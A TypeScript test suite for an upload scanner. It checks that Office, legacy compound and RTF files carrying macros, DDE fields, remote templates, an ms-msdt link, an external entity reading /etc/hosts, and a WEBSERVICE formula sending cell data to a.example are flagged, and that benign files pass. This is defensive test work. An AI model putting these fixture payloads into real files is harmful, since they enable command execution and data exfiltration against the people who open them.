import { describe, expect, it } from 'vitest';
import { compound, latin, office, relationships, rulesOf, zip } from '../testing/build.ts';

const word = 'word/document.xml';
const book = 'xl/workbook.xml';
const show = 'ppt/presentation.xml';
const part = (name: string, data: string) => ({ name, data });
const document = (inner: string): string => `<?xml version="1.0"?><w:document xmlns:w="x"><w:body>${inner}</w:body></w:document>`;

describe('an Office file that runs or loads something', () => {
  it.each([
    ['macros', office(word, [part('word/vbaProject.bin', 'x')]), 'upload.office_macro'],
    [
      'macros by another name',
      office(word, [
        part(
          'word/_rels/document.xml.rels',
          relationships('x', 'a.bin', 'Internal').replace('relationships/x', 'relationships/vbaProject'),
        ),
      ]),
      'upload.office_macro',
    ],
    [
      'macros by its content types',
      office(word, [
        part(
          '[Content_Types].xml',
          '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        ),
      ]),
      'upload.office_macro',
    ],
    ['macro sheets', office(book, [part('xl/macrosheets/sheet1.xml', '<x/>')]), 'upload.office_macro'],
    [
      'a macro that opens',
      office(book, [part(book, '<workbook><definedName name="Auto_Open">x</definedName></workbook>')]),
      'upload.office_macro',
    ],
    [
      'a slide that starts a program',
      office(show, [part('ppt/slides/slide1.xml', '<a:hlinkClick action="ppaction://program"/>')]),
      'upload.office_macro',
    ],
    ['controls', office(word, [part('word/activeX/activeX1.xml', '<x/>')]), 'upload.office_active'],
    [
      'a template from elsewhere',
      office(word, [part('word/_rels/settings.xml.rels', relationships('attachedTemplate', 'https://a.example/t.dotm'))]),
      'upload.office_external',
    ],
    [
      'a template from a share',
      office(word, [part('word/_rels/settings.xml.rels', relationships('attachedTemplate', 'file:///\\\\a.example\\t.dotx'))]),
      'upload.office_external',
    ],
    [
      'an object from elsewhere',
      office(word, [part('word/_rels/document.xml.rels', relationships('oleObject', 'mhtml:http://a.example/x!y'))]),
      'upload.office_external',
    ],
    [
      'a target in references',
      office(word, [part('word/_rels/document.xml.rels', relationships('frame', '&#104;ttp://a.example/'))]),
      'upload.office_external',
    ],
    [
      'a link to a handler of the system',
      office(word, [part('word/_rels/document.xml.rels', relationships('hyperlink', 'ms-msdt:/id PCWDiagnostic'))]),
      'upload.office_external',
    ],
    [
      'a field',
      office(word, [part(word, document('<w:instrText xml:space="preserve"> DDEAUTO "cmd" "/c x"</w:instrText>'))]),
      'upload.office_dde',
    ],
    [
      'a field in pieces',
      office(word, [part(word, document('<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E "cmd" "x"</w:instrText>'))]),
      'upload.office_dde',
    ],
    ['a simple field', office(word, [part(word, document('<w:fldSimple w:instr="DDE &quot;cmd&quot;"/>'))]), 'upload.office_dde'],
    [
      'an exchange',
      office(book, [
        part('xl/externalLinks/externalLink1.xml', '<externalLink><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>'),
      ]),
      'upload.office_dde',
    ],
    ['a formula', office(book, [part('xl/worksheets/sheet1.xml', "<c><f>cmd|'/C calc'!A0</f></c>")]), 'upload.formula_command'],
    [
      'a formula that sends',
      office(book, [part('xl/worksheets/sheet1.xml', '<c><f>_xlfn.WEBSERVICE(&quot;http://a.example/&quot;&amp;A1)</f></c>')]),
      'upload.formula_command',
    ],
    [
      'an external entity',
      office(word, [part('docProps/core.xml', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/hosts">]><x>&y;</x>')]),
      'upload.xml_entity',
    ],
    [
      'a packaged file',
      office(word, [{ name: 'word/embeddings/oleObject1.bin', data: compound({ '\x01Ole10Native': latin('x') }) }]),
      'upload.office_package',
    ],
    ['a program as a part', office(word, [part('word/media/x.exe', 'MZ')]), 'upload.archive_program'],
    [
      'macros of the old form',
      compound({ WordDocument: latin('x'), Macros: latin('x'), VBA: latin('x') }),
      'upload.office_macro',
    ],
    [
      'macro sheets of the old form',
      compound({ Workbook: Buffer.from('0908020000008500080000000000000100000000', 'hex') }),
      'upload.office_macro',
    ],
    ['an exchange of the old form', compound({ WordDocument: latin('text \x13 DDEAUTO cmd "x" \x14') }), 'upload.office_dde'],
    ['encryption', compound({ EncryptionInfo: latin('x'), EncryptedPackage: latin('x') }), 'upload.office_encrypted'],
    [
      'encryption of the old form',
      compound({ WordDocument: Buffer.from('eca5c1000000000000000001', 'hex') }),
      'upload.office_encrypted',
    ],
    ['an object in rich text', latin('{\\rtf1{\\object\\objautlink{\\*\\objdata 0105}}}'), 'upload.office_package'],
    ['a template in rich text', latin('{\\rtf1{\\*\\template http://a.example/t.dotm}}'), 'upload.office_external'],
  ])('by %s is told', async (_what, bytes, rule) => {
    expect(await rulesOf(bytes)).toContain(rule);
    expect(await rulesOf(zip([{ name: 'folder/a.bin', data: bytes }]))).toContain(rule);
  });
});

describe('an honest Office file', () => {
  it.each([
    [
      'document',
      office(word, [
        part(
          word,
          document(
            '<w:instrText> PAGE \\* MERGEFORMAT </w:instrText><w:instrText>HYPERLINK "https://www.example.com"</w:instrText><w:t>DDE 是什么</w:t>',
          ),
        ),
      ]),
    ],
    [
      'document with a link',
      office(word, [part('word/_rels/document.xml.rels', relationships('hyperlink', 'https://www.example.com/?a=1&amp;b=2'))]),
    ],
    [
      'workbook',
      office(book, [
        part('xl/worksheets/sheet1.xml', '<c r="A1"><f>SUM(A2:A9)</f><v>3</v></c><c><f>IF(A1&gt;0,HYPERLINK(B1),"")</f></c>'),
        part(book, '<workbook><definedName name="_xlnm.Print_Area">x</definedName></workbook>'),
      ]),
    ],
    ['presentation', office(show, [part('ppt/slides/slide1.xml', '<a:hlinkClick action="ppaction://hlinksldjump"/>')])],
    [
      'document of the old form',
      compound({ WordDocument: latin('text \x13 PAGE \x14 1 \x15'), '\x05SummaryInformation': latin('x') }),
    ],
    [
      'document of the old form with an archive in it',
      Buffer.concat([compound({ WordDocument: latin('x') }), zip([{ name: 'theme.xml' }])]),
    ],
    ['workbook of the old form', compound({ Workbook: Buffer.from('0908020000008500080000000000000000000000', 'hex') })],
    ['rich text', latin('{\\rtf1\\ansi{\\fonttbl{\\f0 SimSun;}}\\f0 x}')],
  ])('%s passes', async (_what, bytes) => expect(await rulesOf(bytes)).toEqual([]));

  it('with a template or a workbook beside it is told as having one', async () => {
    const local = relationships('attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm');
    expect(await rulesOf(office(word, [part('word/_rels/settings.xml.rels', local)]))).toEqual(['upload.office_link']);
    const beside = relationships('externalLinkPath', '%E9%A2%84%E7%AE%97.xlsx');
    expect(await rulesOf(office(book, [part('xl/externalLinks/_rels/externalLink1.xml.rels', beside)]))).toEqual([
      'upload.office_link',
    ]);
  });
});
